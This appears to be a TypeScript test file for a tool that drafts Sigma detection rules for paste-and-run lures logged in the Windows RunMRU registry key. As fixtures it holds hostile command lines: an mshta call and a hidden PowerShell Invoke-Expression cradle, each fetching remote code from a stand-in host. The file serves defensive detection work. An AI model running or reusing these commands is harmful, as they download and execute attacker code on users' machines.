import { selfTestRule } from '../evaluate/self-test';
import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
import { pastedCommand } from './run-dialog';

// A paste-and-run lure: the victim pastes a command into Win+R, explorer.exe starts it, and RunMRU keeps
// the pasted text. Synthetic example; no fixture article.
const article = { title: 'Synthetic lure note', url: 'https://notes.example.org/lure', date: '2026-11-26' };
const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
const runMru = {
  ...item,
  value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU',
  hive: 'HKCU' as const,
  path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU',
};
const pasted = 'mshta hxxps://quill-verify[.]example/gate.hta # I am human - ID 7731';
const other = 'whoami /groups';

type Rule = { title: string; detection: Record<string, unknown>; tags: string[]; level: string };

function registryRule(input: Partial<BuiltinSigmaInput>) {
  const drafts = generateBuiltinRules({
    article,
    platform: 'windows',
    registryKeys: [runMru],
    cmdlines: [other, pasted].map((value) => ({ ...item, value, executable: value.split(' ')[0] ?? value })),
    ...input,
  });
  return drafts.find((draft) => draft.telemetryClass === 'registry_set');
}

describe('the Run dialog history (RunMRU) of a paste-and-run lure', () => {
  it('finds the command explorer.exe started, refanged as it was typed', () => {
    expect(pastedCommand([other, pasted], [{ parent: 'explorer.exe', child: 'mshta.exe' }])).toBe(
      'mshta https://quill-verify.example/gate.hta # I am human - ID 7731',
    );
    expect(pastedCommand([other, pasted], [{ parent: 'cmd.exe', child: 'mshta.exe' }])).toBeNull();
  });

  it('requires the pasted program and its host in the entry, and the rule fires on the lure', () => {
    const draft = registryRule({
      processPairs: [{ ...item, value: 'explorer.exe -> mshta.exe', parent: 'explorer.exe', child: 'mshta.exe' }],
    });
    const rule = (draft?.rule ?? {}) as unknown as Rule;
    expect(rule.detection['selection']).toEqual({
      'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\',
      'Details|contains|all': ['mshta', 'quill-verify.example'],
    });
    expect(rule).toMatchObject({
      title: 'Run Dialog Entry Running Mshta (Paste And Run Lure)',
      tags: ['attack.execution', 'attack.t1204.004'],
      level: 'high',
    });
    const observables = [
      { type: 'registry_key', value: runMru.value },
      { type: 'cmdline', value: pasted },
      { type: 'process_lineage', value: 'explorer.exe -> mshta.exe', attributes: { parent: 'explorer.exe', child: 'mshta.exe' } },
    ];
    expect(selfTestRule(draft?.rule ?? '', observables)).toMatchObject({
      fires: true,
      fired_on: ['registry_key: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'],
    });
  });

  it('keys a pasted PowerShell command on the cmdlet it runs, not on where its payload sits', () => {
    const typed = 'powershell -w h -c "iex (Invoke-RestMethod hxxps://quill-verify[.]example/p)"';
    const draft = registryRule({
      cmdlines: [{ ...item, value: typed, executable: 'powershell' }],
      processPairs: [{ ...item, value: 'explorer.exe -> powershell.exe', parent: 'explorer.exe', child: 'powershell.exe' }],
    });
    const rule = (draft?.rule ?? {}) as unknown as Rule;
    expect(rule.detection['selection']).toMatchObject({ 'Details|contains|all': ['powershell', 'Invoke-RestMethod'] });
    const observables = [
      { type: 'registry_key', value: runMru.value },
      { type: 'cmdline', value: typed },
      { type: 'process_lineage', value: 'explorer.exe -> powershell.exe', attributes: { parent: 'explorer.exe', child: 'powershell.exe' } },
    ];
    expect(selfTestRule(draft?.rule ?? '', observables)).toMatchObject({ fires: true });
  });

  it('writes no rule on the key alone when nothing shows what was pasted: every use of the dialog writes it', () => {
    const investigated = { ...item, value: other, executable: 'whoami' };
    expect(registryRule({ processPairs: [], cmdlines: [investigated] })).toBeUndefined();
  });

  it("writes the history rule for a lure's line the article shows without naming the key, and it fires on explorer's write", () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: [other, pasted].map((value) => ({ ...item, value, executable: value.split(' ')[0] ?? value })),
    });
    const history = drafts.filter((draft) => draft.telemetryClass === 'registry_set');
    expect(history).toHaveLength(1);
    expect(history[0]?.rule.detection['selection']).toEqual({
      'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\',
      'Details|contains|all': ['mshta', 'quill-verify.example'],
    });
    const observables = [other, pasted].map((value) => ({ type: 'cmdline', value }));
    expect(selfTestRule(history[0]?.rule ?? '', observables)).toMatchObject({ fires: true, fired_on: [`cmdline: ${pasted}`] });
  });

  it('writes no history rule for lines nothing shows were pasted into the dialog', () => {
    const drafts = generateBuiltinRules({
      article,
      platform: 'windows',
      cmdlines: ['mshta hxxps://quill-verify[.]example/gate.hta'].map((value) => ({ ...item, value, executable: 'mshta' })),
    });
    expect(drafts.filter((draft) => draft.telemetryClass === 'registry_set')).toEqual([]);
  });
});
